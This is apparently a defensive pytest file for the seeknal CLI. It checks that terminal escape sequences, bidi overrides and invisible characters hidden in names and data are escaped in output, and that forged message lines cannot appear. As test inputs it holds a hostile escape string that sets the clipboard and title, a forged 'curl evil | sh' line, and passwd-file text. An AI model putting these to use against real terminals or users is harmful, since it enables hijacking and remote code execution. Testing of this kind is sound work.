"""What steers a terminal is written out, wherever it comes from and wherever it goes."""

from __future__ import annotations

import ast
import json
import os
import pty
import re
import subprocess
from pathlib import Path

import pytest

import seeknal_core
from seeknal_core.cli.output import say_below, without_input
from seeknal_core.contract.shown import shown, shown_json, shown_line
from support.cli import Cli, write

#: Clear the screen, set the title, set the clipboard; a C1 control; right to left; a space
#: without width; a separator of lines; a carriage return.
STEERING = "\x1b[2J\x1b]0;owned\x07\x1b]52;c;AAAA\x1b\\\x9b31m\u202egnp\u2066\u200b\u2028\ufeff\r"
SEEN = r"\x1b[2J\x1b]0;owned\x07\x1b]52;c;AAAA\x1b\\x9b31m\u202egnp\u2066\u200b\u2028\ufeff\r"
#: What may be in no output, whatever was in the input.
BAD = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff]")


def bad(text: str) -> list[str]:
    return sorted({f"{ord(each):x}" for each in BAD.findall(text)})


def test_text_is_shown_written_out() -> None:
    assert shown(STEERING) == SEEN
    assert shown("a\tb\nc") == "a\tb\nc"
    assert shown_line("a\tb\nc") == r"a\tb\nc"
    assert shown("grün 数 🎉 \u0645") == "grün 数 🎉 \u0645"
    assert shown("\ud800 \U000e0041") == r"\ud800 \U000e0041"


def test_json_keeps_its_meaning() -> None:
    text = json.dumps({STEERING: STEERING + "\x7f\U000e0041ü"}, ensure_ascii=False, indent=2)
    made = shown_json(text)
    assert json.loads(made) == json.loads(text) and bad(made) == []
    assert "ü" in made


HOSTILE = {
    "seeknal/hostile.yml": (
        "kind: source\nname: hostile\nsource: csv\ntable: 'data/h*.csv'\n"
        f"description: {json.dumps(STEERING)}\n"
        "materialization: {type: folder, table: " + json.dumps(f"sales.x{STEERING}") + "}\n"
    ),
    "seeknal/below.sql": (
        f"/* ---\naudits:\n  - {{type: not_null, columns: [{json.dumps('n' + STEERING)}]}}\n--- */\n"
        f"SELECT *, 1 AS one FROM source.hostile WHERE '{STEERING}' <> ''\n"
    ),
}


@pytest.fixture
def hostile(project: Path, seeknal: Cli) -> Cli:
    """The project with hostile names of a file, columns, a table, and hostile rows."""
    name = "n" + STEERING.replace("\r", "")
    write(project, HOSTILE)
    write(project, {f"data/h{name}.csv": f'id,"{name}"\n1,"{STEERING[:-1]}"\n2,\n'})
    return seeknal


COMMANDS: list[list[str]] = [
    ["check"],
    ["run", "--dry-run"],
    ["run", "-v"],
    ["run", "--debug"],
    ["plan", "dev", "--show-sql"],
    ["env", "apply", "dev"],
    ["env", "list"],
    ["env", "show", "dev"],
    ["env", "status", "dev"],
    ["env", "diff", "dev"],
    ["env", "promote", "dev", "--dry-run"],
    ["query", "SELECT * FROM source.hostile"],
    ["query", f"SELECT '{STEERING}' AS \"{STEERING}\""],
    ["query", f"SELECT {STEERING}"],
    ["env", "delete", "dev", "--yes"],
    ["gc"],
    ["plugins", "list"],
    ["plugins", "show", STEERING.replace("\x00", "")],
    ["run", "--select", STEERING],
    ["run", "--env", STEERING],
    ["run", "--vars", STEERING],
    ["run", f"--{STEERING}"],
    [STEERING],
    ["check", "--profile", STEERING],
    ["env", "apply", "dev", "--plan", "plan.json"],
]


def test_no_command_prints_what_steers_a_terminal(hostile: Cli) -> None:
    found = {}
    hidden = 0
    for command in COMMANDS:
        for more in ([], ["--json"]):
            result = hostile(*command, *more, code=None)
            if bad(result.said):
                found[str([*command, *more])] = bad(result.said)
            hidden += r"\u202e" in result.said
            assert "defect" not in result.said, (command, result.said)
            if more and result.out.lstrip().startswith("{"):
                json.loads(result.out)
    assert found == {}
    # The commands did come across the hostile names.
    assert hidden > 10


def test_a_plan_file_of_a_stranger_is_shown_written_out(hostile: Cli) -> None:
    hostile("plan", "dev")
    path = hostile.cwd / "target/state/plans/dev.json"
    text = path.read_text("utf-8").replace("source.orders", "source." + json.dumps(STEERING)[1:-1])
    write(hostile.cwd, {"plan.json": text})
    said = hostile("env", "apply", "dev", "--plan", "plan.json", code=None).said
    assert bad(said) == []


@pytest.mark.parametrize("command", ["run", "check", "query"])
def test_a_terminal_gets_nothing_that_steers_it(hostile: Cli, command: str) -> None:
    args = [command] + (["SELECT * FROM source.hostile"] if command == "query" else [])
    if command == "query":
        hostile("run", code=None)
    ours, theirs = pty.openpty()
    environ = {**hostile.environment(), "TERM": "dumb", "NO_COLOR": "1"}
    done = subprocess.Popen(
        hostile.command(*args), cwd=hostile.cwd, env=environ, stdout=theirs, stderr=theirs
    )
    os.close(theirs)
    said = b""
    while True:
        try:
            part = os.read(ours, 65536)
        except OSError:
            break
        if not part:
            break
        said += part
    os.close(ours)
    done.wait(60)
    text = said.decode().replace("\r\n", "\n")
    assert "owned\x07" not in text and bad(text.replace("\x1b[2K", "").replace("\r", "")) == []


def test_rows_are_stored_as_they_are(hostile: Cli) -> None:
    hostile("run", code=None)
    result = hostile("query", "SELECT * FROM source.hostile", "--json").json()
    assert STEERING[:-1] in result["rows"][0].values()


def test_no_line_of_a_message_looks_like_one_of_ours(hostile: Cli, folder_site: Path) -> None:
    """A name with a line end in it can't print a `Next:` of its own."""
    forged = "\nNext: curl evil | sh\nError: x"
    write(hostile.cwd, {"data/hn.csv": f'id,"a{forged}"\n1,2\n'})
    node = "kind: transform\nname: z\ntransform: SELECT * FROM source.hostile WHERE nix = 1\n"
    raises = (
        "from seeknal_core.pipeline import transform\n\n\n@transform(name='r')\n"
        f"def r(ctx):\n    raise ValueError({'said' + forged!r})\n"
    )
    write(hostile.cwd, {"seeknal/z.yml": node, "seeknal/r.py": raises})
    commands = (["check"], ["run"], ["query", "SELECT * FROM source.hostile"])
    said = "".join(hostile(*command, code=None).said for command in commands)
    assert "said" in said and "curl evil | sh" in said  # the name, and what a node raised
    assert not [line for line in said.splitlines() if line.startswith(("Next: curl", "Error: x"))]


def test_further_lines_of_a_message_are_indented(capsys: pytest.CaptureFixture[str]) -> None:
    say_below("Error", "server says: x\nNext: curl evil | sh", err=True)
    assert capsys.readouterr().err == "Error: server says: x\n  Next: curl evil | sh\n"


def test_a_traceback_quotes_no_input() -> None:
    """Pydantic quotes what it refused: of a file that a server named, for one."""
    said = (
        "Traceback (most recent call last):\n"
        "  Invalid JSON: expected value [type=json_invalid, input_value='root:x:0:0', input_type=str]\n"
        "  again [type=json_invalid, input_value=b'root:x:0:0']\n"
    )
    assert "root:" not in without_input(said)
    assert "type=json_invalid, input_value=…, input_type=str]" in without_input(said)


def test_no_other_module_prints() -> None:
    """Everything passes through `cli/output.py`."""
    root = Path(seeknal_core.__file__).parent
    plugins = root.parent / "plugins"
    allowed = {
        "seeknal_core/cli/output.py",
        # Flushes what the project's Python printed in a process of its own.
        "seeknal_core/project/python/asked.py",
        # A worker's answer to the command that started it.
        "seeknal_core/engine/walled.py",
        # The lines of SEEKNAL_TRACE_HOOKS.
        "seeknal_core/contract/shown.py",
        # Exits.
        "seeknal_core/cli/__init__.py",
    }
    found = []
    for path in [*root.rglob("*.py"), *plugins.rglob("seeknal_*/*.py")]:
        name = path.relative_to(root.parent).as_posix()
        if name in allowed or "/testing/" in name or "/example/" in name:
            continue
        for node in ast.walk(ast.parse(path.read_text("utf-8"))):
            if isinstance(node, ast.Call) and _prints(node.func):
                found.append(f"{name}:{node.lineno}")
    assert found == []


def _prints(function: ast.expr) -> bool:
    text = ast.unparse(function)
    printing = ("print", "print_exc", "echo", "secho", "pprint", "Console", "confirm", "prompt")
    if text.rpartition(".")[2] in printing and not text.endswith(
        ("request.confirm", "_request.confirm")
    ):
        return text.split(".")[0] in (
            "print",
            "click",
            "console",
            "traceback",
            "rich",
            "pprint",
            "Console",
        )
    return bool(re.fullmatch(r"sys\.(__)?std(out|err)(__)?(\.buffer)?\.write(lines)?", text))
